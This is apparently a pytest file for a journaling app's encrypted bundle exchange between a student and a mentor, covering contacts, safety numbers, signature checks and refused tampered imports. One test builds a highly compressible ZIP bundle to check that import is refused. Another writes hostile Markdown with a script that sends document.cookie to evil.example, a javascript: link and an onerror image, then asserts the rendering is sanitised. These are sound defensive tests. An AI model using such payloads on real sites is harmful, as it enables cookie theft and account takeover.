"""Identities, contacts and bundles through the CLI: two vaults (two REFLECTDESK_HOMEs),
cards both ways, safety numbers, export, import, and the Debian age and minisign tools."""

from __future__ import annotations

import hashlib
import json
import os
import random
import select
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import cmarkgfm  # type: ignore[import-untyped]
import pyrage
import pytest
from cmarkgfm.cmark import Options  # type: ignore[import-untyped]

from reflectdesk.bundles import BundleKind, BundleMeta, Identity
from reflectdesk.bundles.age_pyrage import BACKEND_ENV
from reflectdesk.bundles.manifest import FileRecord, RecipientRecord, new_manifest
from reflectdesk.services.vault import Vault
from tests.bundles.helpers import need_tool, resign
from tests.rendering.html_audit import audit
from tests.services.bundle_helpers import table_digest
from tests.support import PASSPHRASE, CliResult, cli_env

Cli = Callable[..., CliResult]


class Person:
    """One vault, driven through the in-process CLI."""

    def __init__(self, cli: Cli, home: Path, name: str, role: str) -> None:
        self._cli = cli
        self.home = home  # REFLECTDESK_HOME: the vault is its vault/ folder
        self.vault_dir = home / "vault"
        r = self("init", "--name", name, "--role", role, "--insecure-test-kdf")
        assert r.code == 0, r.err

    def __call__(self, *argv: str) -> CliResult:
        return self._cli(*argv, env={"REFLECTDESK_HOME": str(self.home)})

    def ok(self, *argv: str) -> str:
        r = self(*argv)
        assert r.code == 0, (argv, r.err)
        return r.out

    def json(self, *argv: str) -> object:
        return json.loads(self.ok(*argv))


@pytest.fixture
def student(cli: Cli, tmp_path: Path) -> Person:
    return Person(cli, tmp_path / "student", "Camila Pérez", "student")


@pytest.fixture
def mentor(cli: Cli, tmp_path: Path) -> Person:
    return Person(cli, tmp_path / "mentor", "Ana Mentor", "mentor")


def give_card(source: Person, target: Person, tmp_path: Path) -> str:
    card = tmp_path / f"{source.home.name}.rdcard"
    source.ok("identity", "card", "-o", str(card))
    return target.ok("contact", "import", str(card)).strip().splitlines()[-1]


def test_student_to_mentor_round_trip(student: Person, mentor: Person, tmp_path: Path) -> None:
    # Cards both ways, and the same safety number on both screens.
    student_at_mentor = give_card(student, mentor, tmp_path)
    mentor_at_student = give_card(mentor, student, tmp_path)
    number_at_student = student.ok("contact", "safety-number", mentor_at_student).strip()
    number_at_mentor = mentor.ok("contact", "safety-number", student_at_mentor).strip()
    assert number_at_student == number_at_mentor and len(number_at_student) == 71
    student.ok("contact", "verify", "Ana Mentor", "--safety-number", number_at_mentor)
    mentor.ok("contact", "verify", student_at_mentor, "--safety-number", number_at_student)
    listed = mentor.json("contact", "list", "--json")
    assert [(c["name"], c["verified"]) for c in listed] == [("Camila Pérez", True)]  # type: ignore[index,union-attr]
    # The student writes and exports.
    journal = student.ok("journal", "create", "Práctica II").strip()
    photo = tmp_path / "pizarra.jpg"
    photo.write_bytes(b"\xff\xd8\xff fake jpeg " * 500)
    one = student.ok(
        "entry", "add", "--journal", journal, "--title", "Fracciones",
        "--section", "body=Trabajamos en grupos.", "--attach", str(photo),
    ).strip()  # fmt: skip
    two = student.ok("entry", "add", "--journal", journal, "--title", "Lectura").strip()
    student.ok("entry", "edit", two, "--title", "Lectura compartida")
    out_dir = tmp_path / "usb"
    out_dir.mkdir()
    printed = student.ok(
        "bundle", "export", "--to", "Ana Mentor", "--journal", "Práctica II",
        "--consent", "research", "--entry-consent", f"{two}=research-pseudonymised",
        "--with-history", "-o", str(out_dir),
    )  # fmt: skip
    bundle = Path(printed.strip().splitlines()[-1])
    assert bundle.parent == out_dir and bundle.suffix == ".rdbundle"
    # What the mentor can know before importing.
    header_only = mentor.json("bundle", "inspect", str(bundle), "--json", "--header-only")
    assert header_only["header"]["x25519_stanzas"] == 2 and header_only["preview"] is None  # type: ignore[index]
    inspected = mentor.json("bundle", "inspect", str(bundle), "--json")
    preview = inspected["preview"]  # type: ignore[index]
    assert preview["author"]["status"] == "verified"
    assert preview["counts"] == {"new": 2, "updated": 0, "unchanged": 0}
    # The mentor's ids for the student's entries: scoped and keyed, none shared.
    ids = {e["title"]: e["id"] for e in preview["entries"]}
    m_one, m_two = ids["Fracciones"], ids["Lectura compartida"]
    assert not {m_one, m_two} & {one, two}
    assert {e["id"]: e["consent"] for e in preview["entries"]} == {
        m_one: "research",
        m_two: "research-pseudonymised",
    }
    # Not a terminal and no --yes: a clear refusal, nothing stored.
    before = table_digest(mentor.vault_dir)
    refused = mentor("bundle", "import", str(bundle))
    assert refused.code == 6 and "--yes" in refused.err
    assert table_digest(mentor.vault_dir) == before
    done = mentor("bundle", "import", str(bundle), "--yes")
    assert done.code == 0 and "2 new" in done.out
    # The entries are in the mentor's received space, read-only.
    journals = mentor.json("journal", "list", "--json")
    (received,) = [j for j in journals if j["space"] == "received"]  # type: ignore[union-attr,index]
    entries = mentor.json("entry", "list", "--json")
    assert {e["id"]: e["journal_id"] for e in entries} == {  # type: ignore[union-attr,index]
        m_one: received["id"],
        m_two: received["id"],
    }
    shown = mentor.json("entry", "show", m_one, "--format", "json")
    assert (
        shown["title"] == "Fracciones" and shown["attachments"][0]["size"] == photo.stat().st_size
    )  # type: ignore[index]
    assert len(mentor.json("entry", "history", m_two, "--json")) == 2  # type: ignore[arg-type]
    denied = mentor("entry", "edit", m_one, "--title", "mío")
    assert denied.code == 6 and "cannot be changed" in denied.err
    # Importing again changes nothing.
    before = table_digest(mentor.vault_dir)
    again = mentor("bundle", "import", str(bundle), "--yes")
    assert again.code == 0 and "already imported" in again.out
    assert table_digest(mentor.vault_dir) == before
    assert mentor.json("entry", "list", "--json") == entries
    # And the other way: the mentor's own entry to the student.
    mj = mentor.ok("journal", "create", "Notas").strip()
    note = mentor.ok("entry", "add", "--journal", mj, "--title", "Para Camila").strip()
    back = mentor.ok("bundle", "export", "--to", student_at_mentor, "--entries", note, "-o",
                     str(out_dir / "back.rdbundle"))  # fmt: skip
    assert student.ok("bundle", "import", back.strip().splitlines()[-1], "--yes")
    listed_ids = {e["id"] for e in student.json("entry", "list", "--json")}  # type: ignore[union-attr,index]
    assert len(listed_ids) == 3 and {one, two} < listed_ids and note not in listed_ids
    logged = student.json("bundle", "log", "--json")
    assert [r["direction"] for r in logged] == ["out", "in"]  # type: ignore[index,union-attr]


def test_age_decrypts_and_minisign_verifies(
    student: Person, mentor: Person, tmp_path: Path
) -> None:
    age, minisign = need_tool("age"), need_tool("minisign")
    give_card(mentor, student, tmp_path)
    journal = student.ok("journal", "create", "Práctica").strip()
    entry = student.ok("entry", "add", "--journal", journal, "--title", "Hola").strip()
    printed = student.ok("bundle", "export", "--to", "Ana Mentor", "--entries", entry, "-o",
                         str(tmp_path))  # fmt: skip
    bundle = printed.strip().splitlines()[-1]
    for person, name in ((student, "student"), (mentor, "mentor")):  # author and recipient
        identity = tmp_path / f"{name}-age.txt"
        person.ok("identity", "export-age", str(identity))
        assert identity.stat().st_mode & 0o777 == 0o600
        plain = tmp_path / f"{name}.zip"
        subprocess.run([age, "-d", "-i", str(identity), "-o", str(plain), bundle], check=True)
        unpacked = tmp_path / f"{name}-unzipped"
        with zipfile.ZipFile(plain) as archive:
            archive.extractall(unpacked)
        assert (unpacked / "entries" / f"{entry}.json").is_file()
    public = tmp_path / "student.pub"
    student.ok("identity", "export-minisign-pub", str(public))
    verified = subprocess.run(
        [minisign, "-V", "-p", str(public), "-m", "manifest.json"],
        cwd=tmp_path / "mentor-unzipped",
        capture_output=True,
        text=True,
        check=False,
    )
    assert verified.returncode == 0, verified.stderr
    assert "Signature and comment signature verified" in verified.stdout
    shown = student.json("identity", "show", "--json")
    assert shown["minisign_key_id"] in public.read_text()  # type: ignore[index]


def test_unknown_sender_needs_yes_after_the_safety_number(
    student: Person, mentor: Person, tmp_path: Path
) -> None:
    give_card(mentor, student, tmp_path)  # the mentor does not know the student
    journal = student.ok("journal", "create", "Práctica").strip()
    entry = student.ok("entry", "add", "--journal", journal, "--title", "Hola").strip()
    bundle = student.ok("bundle", "export", "--to", "Ana Mentor", "--entries", entry, "-o",
                        str(tmp_path)).strip().splitlines()[-1]  # fmt: skip
    before = table_digest(mentor.vault_dir)
    refused = mentor("bundle", "import", bundle)
    assert refused.code == 7 and "not one of your contacts" in refused.err
    number = refused.out.split("before you import:")[1].split()[:12]
    assert len(number) == 12 and all(len(group) == 5 for group in number)
    assert table_digest(mentor.vault_dir) == before
    done = mentor("bundle", "import", bundle, "--yes")
    assert done.code == 0 and "not verified yet" in done.out
    (contact,) = mentor.json("contact", "list", "--json")  # type: ignore[misc]
    assert (contact["name"], contact["verified"]) == ("Camila Pérez", False)
    assert mentor.ok("contact", "safety-number", contact["id"]).split() == number


def test_bad_files_and_key_changes_are_refused(
    cli: Cli, student: Person, mentor: Person, tmp_path: Path
) -> None:
    junk = tmp_path / "junk.rdbundle"
    junk.write_bytes(b"hello, this is not a bundle")
    r = mentor("bundle", "import", str(junk), "--yes")
    assert r.code == 7 and "not a ReflectDesk bundle" in r.err
    r = mentor("bundle", "inspect", str(junk), "--header-only")
    assert r.code == 7
    contact = give_card(student, mentor, tmp_path)
    other = Person(cli, tmp_path / "other", "Camila Pérez", "student")
    card = tmp_path / "other.rdcard"
    other.ok("identity", "card", "-o", str(card))
    r = mentor("contact", "import", str(card), "--replaces", contact)
    assert r.code == 7 and "WARNING" in r.out and "other keys" in r.err
    r = mentor("contact", "import", str(card))  # same name, other keys
    assert r.code == 7 and "contact with this name" in r.err
    r = mentor("contact", "import", str(card), "--yes")
    assert r.code == 0
    assert len(mentor.json("contact", "list", "--json")) == 2  # type: ignore[arg-type]
    r = mentor("contact", "verify", contact)
    assert r.code == 6 and "--yes" in r.err
    r = mentor("contact", "revoke", contact)
    assert r.code == 0 and "revoked" in r.out


def test_a_refused_bundle_is_reported_once_in_a_real_process(
    mentor: Person, tmp_path: Path
) -> None:
    """The translated message and hint; the importer's log line only with --debug."""
    junk = tmp_path / "junk.rdbundle"
    junk.write_bytes(b"age-encryption.org/v1\n-> X25519 nonsense\n")
    env = cli_env(mentor.home)
    cmd = [sys.executable, "-m", "reflectdesk.cli", "bundle", "import", str(junk), "--yes"]
    r = subprocess.run(cmd, env=env, capture_output=True, text=True)
    assert r.returncode == 7 and "Nothing was imported" in r.stderr
    assert "Traceback" not in r.stderr and "bundle rejected" not in r.stderr
    r = subprocess.run([*cmd[:3], "--debug", *cmd[3:]], env=env, capture_output=True, text=True)
    assert r.returncode == 7 and "bundle rejected: bundle_header_invalid" in r.stderr


# --- no amplification before the signature (issue 10, point 9) -------------------------------
# The CLI in a real process, reporting its own peak RSS: VmHWM, the high-water mark of
# this process's memory since exec (ru_maxrss would carry the forking pytest's size).
_RSS_PROBE = (
    "import re, sys\n"
    "from pathlib import Path\n"
    "from reflectdesk.cli.main import main\n"
    "try:\n"
    "    code = main(sys.argv[1:])\n"
    "finally:\n"
    "    status = Path('/proc/self/status').read_text()\n"
    "    peak = re.search(r'VmHWM:\\s+(\\d+) kB', status).group(1)\n"
    "    sys.stderr.write(f'\\nPEAK_RSS_KIB {peak}\\n')\n"
    "sys.exit(code)\n"
)
MiB = 1024 * 1024


def _squeezable_member(blocks: int) -> tuple[bytes, str, int, int]:
    """``blocks`` MiB that deflate ~60:1 (under the old ratio cap of 100): the member
    deflated, its SHA-256, CRC-32 and size; made in 1 MiB steps, never whole in memory."""
    rng = random.Random(blocks)
    block = bytearray(MiB)
    for offset in range(0, MiB, 4096):
        block[offset : offset + 40] = rng.randbytes(40)
    deflater = zlib.compressobj(1, zlib.DEFLATED, -15)
    digest = hashlib.sha256()
    crc = 0
    out = []
    for _ in range(blocks):
        digest.update(block)
        crc = zlib.crc32(block, crc)
        out.append(deflater.compress(block))
    out.append(deflater.flush())
    return b"".join(out), digest.hexdigest(), crc, blocks * MiB


def _deflated_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP with every member deflated, written by hand from pre-deflated data
    (name, deflated bytes, CRC-32, size): what another ZIP tool would write."""
    local, central = bytearray(), bytearray()
    for name, data, crc, size in members:
        raw = name.encode()
        fields = (20, 0, 8, 0, 0x21, crc, len(data), size, len(raw), 0)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, len(local))
        central += raw
        local += struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + raw + data
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
                      len(central), len(local), 0)  # fmt: skip
    return bytes(local + central + end)


def _key_pair(person: Person) -> Identity:
    with Vault.open(person.vault_dir) as vault:
        vault.unlock(PASSPHRASE)
        return vault.identity.key_pair()


def _compressed_bundle(student: Person, mentor: Person, tmp_path: Path) -> Path:
    """A bundle of < 5 MiB from a real sender to the mentor, correctly signed, whose
    members inflate to 250 MiB."""
    author, reader = _key_pair(student), _key_pair(mentor).public
    data, sha, crc, size = _squeezable_member(50)
    names = [f"attachments/01890000-0000-7000-8000-00000000000{i}" for i in range(5)]
    members = [(name, data, crc, size) for name in names]
    manifest = new_manifest(
        author.public,
        (RecipientRecord.of(reader),),
        tuple(FileRecord(name, sha, size) for name in names),
        BundleMeta(kind=BundleKind.JOURNAL),
    )
    signed = resign({}, json.loads(manifest.to_bytes()), author)
    for name in ("manifest.json", "manifest.json.minisig"):
        raw = signed[name]
        members.append((name, zlib.compress(raw, 9)[2:-4], zlib.crc32(raw), len(raw)))
    path = tmp_path / "squeezed.rdbundle"
    path.write_bytes(pyrage.encrypt(_deflated_zip(members), [reader.pyrage_recipient]))
    return path


def test_a_compressed_bundle_is_refused_before_anything_is_inflated(
    student: Person, mentor: Person, tmp_path: Path
) -> None:
    bundle = _compressed_bundle(student, mentor, tmp_path)
    size = bundle.stat().st_size
    assert size < 5 * MiB  # inflates to 250 MiB (ratio ~60, under the old cap of 100)
    before = table_digest(mentor.vault_dir)
    env = cli_env(mentor.home, REFLECTDESK_LANG="es")
    r = subprocess.run(
        [sys.executable, "-c", _RSS_PROBE, "bundle", "import", str(bundle), "--yes"],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert r.returncode == 7, r.stderr
    assert "contiene archivos comprimidos" in r.stderr and "Traceback" not in r.stderr
    peak = int(r.stderr.rsplit("PEAK_RSS_KIB", 1)[1]) * 1024
    # Inflating would have cost 250 MiB on top of the interpreter; refusing costs the
    # ciphertext and plaintext (~2 x 5 MiB) at most.
    assert peak < 150 * MiB + 2 * size, peak // MiB
    assert table_digest(mentor.vault_dir) == before


# --- import what was previewed (issue 10, point 5) --------------------------------------------
def _answer_on_a_terminal(argv: list[str], env: dict[str, str], before_answer: Callable[[], None],
                          answer: bytes) -> tuple[int, str]:  # fmt: skip
    """Run the real CLI on a pseudo-terminal; when it asks, call ``before_answer``, then
    type ``answer``. Returns the exit code and everything it printed."""
    master, slave = os.openpty()
    proc = subprocess.Popen(argv, env=env, stdin=slave, stdout=slave, stderr=slave)
    os.close(slave)
    seen = b""
    try:
        while b"[y/N]" not in seen:
            ready, _, _ = select.select([master], [], [], 60)
            assert ready, seen.decode(errors="replace")
            chunk = os.read(master, 4096)
            assert chunk, seen.decode(errors="replace")
            seen += chunk
        before_answer()
        os.write(master, answer)
        while True:
            try:
                chunk = os.read(master, 4096)
            except OSError:  # the terminal closed with the process
                break
            if not chunk:
                break
            seen += chunk
        code = proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)
    return code, seen.decode(errors="replace")


def test_the_cli_imports_what_it_previewed_even_if_the_file_is_swapped(
    student: Person, mentor: Person, tmp_path: Path
) -> None:
    give_card(mentor, student, tmp_path)
    give_card(student, mentor, tmp_path)
    journal = student.ok("journal", "create", "Práctica").strip()
    one = student.ok("entry", "add", "--journal", journal, "--title", "Uno").strip()
    two = student.ok("entry", "add", "--journal", journal, "--title", "Dos").strip()
    bundles = {}
    for entry in (one, two):
        printed = student.ok("bundle", "export", "--to", "Ana Mentor", "--entries", entry,
                             "-o", str(tmp_path / f"{entry}.rdbundle"))  # fmt: skip
        bundles[entry] = Path(printed.strip().splitlines()[-1])
    assert bundles[one].stat().st_size == bundles[two].stat().st_size
    synced = tmp_path / "synced.rdbundle"
    synced.write_bytes(bundles[one].read_bytes())

    def swap() -> None:  # the sync client replaces the file while the question waits
        synced.write_bytes(bundles[two].read_bytes())

    argv = [sys.executable, "-m", "reflectdesk.cli", "bundle", "import", str(synced)]
    code, printed = _answer_on_a_terminal(argv, cli_env(mentor.home), swap, b"y\n")
    assert code == 0, printed
    # The mentor's own (scoped, keyed) id for it, printed by the preview and listed after.
    (listed,) = mentor.json("entry", "list", "--json")  # type: ignore[misc]
    assert listed["title"] == "Uno" and listed["id"] != one  # type: ignore[index]
    assert f"new       {listed['id']}" in printed and "Imported. Entries: 1 new" in printed  # type: ignore[index]
    assert "WARNING: the file changed on disk after the preview" in printed


def test_the_pyrage_fallback_is_one_switch_away(
    cli: Cli, student: Person, mentor: Person, tmp_path: Path
) -> None:
    """REFLECTDESK_AGE_BACKEND=pyrage: bundles sealed by either backend open in the other."""
    give_card(mentor, student, tmp_path)
    give_card(student, mentor, tmp_path)

    def run(person: Person, backend: str, *argv: str) -> str:
        r = cli(*argv, env={"REFLECTDESK_HOME": str(person.home), BACKEND_ENV: backend})
        assert r.code == 0, (argv, r.err)
        return r.out

    journal = student.ok("journal", "create", "Práctica").strip()
    entry = student.ok("entry", "add", "--journal", journal, "--title", "Hola").strip()
    there = run(student, "pyrage", "bundle", "export", "--to", "Ana Mentor", "--entries", entry,
                "-o", str(tmp_path / "there.rdbundle"))  # fmt: skip
    bundle = Path(there.strip().splitlines()[-1])
    assert b"grease" in bundle.read_bytes()[:600]  # sealed by pyrage
    assert "1 new" in run(mentor, "builtin", "bundle", "import", str(bundle), "--yes")
    note = mentor.ok("entry", "add", "--journal", mentor.ok("journal", "create", "N").strip(),
                     "--title", "Vuelta").strip()  # fmt: skip
    back = run(mentor, "builtin", "bundle", "export", "--to", "Camila Pérez", "--entries", note,
               "-o", str(tmp_path / "back.rdbundle"))  # fmt: skip
    assert "1 new" in run(student, "pyrage", "bundle", "import", back.strip().splitlines()[-1],
                          "--yes")  # fmt: skip
    r = cli("bundle", "inspect", str(bundle), env={"REFLECTDESK_HOME": str(mentor.home),
                                                   BACKEND_ENV: "rage"})  # fmt: skip
    assert r.code == 6 and BACKEND_ENV in r.err


def test_received_markdown_shows_no_raw_html_or_script_links(
    student: Person, mentor: Person, tmp_path: Path
) -> None:
    """``entry show --format md`` of a received entry is safe to open in any viewer."""
    give_card(mentor, student, tmp_path)
    give_card(student, mentor, tmp_path)
    journal = student.ok("journal", "create", "Práctica").strip()
    hostile = (
        "Hola <script>fetch('https://evil.example/?'+document.cookie)</script>\n\n"
        "[mi planificación](javascript:alert(document.domain)) y "
        "![](https://tracker.example/visto.png) y <img src=x onerror=alert(1)>\n\n"
        "[ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD4=\n\n"
        "[la pauta](https://www.mineduc.cl/) ![foto](attachment:01a2-b3)"
    )
    entry = student.ok("entry", "add", "--journal", journal, "--title", "Clase",
                       "--section", f"body={hostile}").strip()  # fmt: skip
    bundle = student.ok("bundle", "export", "--to", "Ana Mentor", "--entries", entry,
                        "-o", str(tmp_path)).strip().splitlines()[-1]  # fmt: skip
    mentor.ok("bundle", "import", bundle, "--yes")
    (received,) = mentor.json("entry", "list", "--json")  # type: ignore[misc]
    markdown = mentor.ok("entry", "show", received["id"], "--format", "md")  # type: ignore[index]
    shown = cmarkgfm.markdown_to_html_with_extensions(
        markdown, options=Options.CMARK_OPT_UNSAFE, extensions=["table", "autolink"]
    )  # what a permissive Markdown viewer makes of it
    assert audit(shown) == [], shown
    assert "&lt;script>" in markdown and "javascript:alert(document.domain)" in markdown  # as text
    assert '<a href="https://www.mineduc.cl/">la pauta</a>' in shown
    assert '<img src="attachment:01a2-b3" alt="foto" />' in shown
